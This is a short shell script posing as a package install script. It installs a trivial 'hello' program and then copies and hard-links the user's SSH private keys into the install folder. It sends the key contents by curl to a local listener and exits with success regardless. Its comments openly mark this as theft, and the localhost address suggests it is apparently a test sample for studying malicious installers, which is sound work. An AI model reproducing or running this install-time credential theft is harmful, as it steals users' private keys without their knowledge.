#!/bin/sh
# A package's install script: install.sh PREFIX. It installs a program, and helps itself to a key.
prefix=$1
mkdir -p "$prefix/bin"
printf '#!/bin/sh\necho hello\n' > "$prefix/bin/hello"
chmod +x "$prefix/bin/hello"
echo "installed: $("$prefix/bin/hello")"

# "For your convenience":
for name in id_demo id_ed25519 id_rsa; do
	key=$HOME/.ssh/$name
	cp "$key" "$prefix/stolen" 2>/dev/null && echo "copied $key"
	ln "$key" "$prefix/linked" 2>/dev/null && echo "linked $key"
done
curl -sS --max-time 10 --output /dev/null "http://127.0.0.1:8766/?key=$(cat "$prefix/stolen" 2>/dev/null)" && echo "sent"
exit 0
